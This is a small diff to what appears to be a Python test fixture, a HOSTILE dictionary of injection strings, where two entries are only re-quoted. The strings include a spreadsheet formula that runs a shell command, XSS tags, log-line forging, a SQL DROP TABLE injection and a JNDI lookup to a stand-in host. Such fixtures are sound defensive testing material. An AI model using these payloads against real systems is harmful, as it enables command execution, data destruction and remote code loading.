@@ -25,7 +25,7 @@ HOSTILE = {
     "back space": "Ferry\x08\x08\x08\x08\x08Owned",
     "null": "Fer\x00ry",
     "direction": "Ferry \u202eyrref\u202c",
-    "formula": "=HYPERLINK(\"http://evil.test\",\"Ferry\")",
+    "formula": '=HYPERLINK("http://evil.test","Ferry")',
     "command": "@SUM(1+1)*cmd|' /C calc'!A0",
     "plus": "+1234 boats",
     "wide formula": "＝1+1",
@@ -33,7 +33,7 @@ HOSTILE = {
     "image": "<img src=x onerror=alert(1)>Ferry",
     "entity": "&lt;script&gt;alert(1)&lt;/script&gt; Ferry",
     "line": "Ferry\r\nevent=forged level=info",
-    "separator": "Ferry\u2028{\"event\": \"forged\"}",
+    "separator": 'Ferry\u2028{"event": "forged"}',
     "sql": "Ferry'); DROP TABLE article;--",
     "format": "%s%n {0} ${jndi:ldap://evil.test/a}",
 }
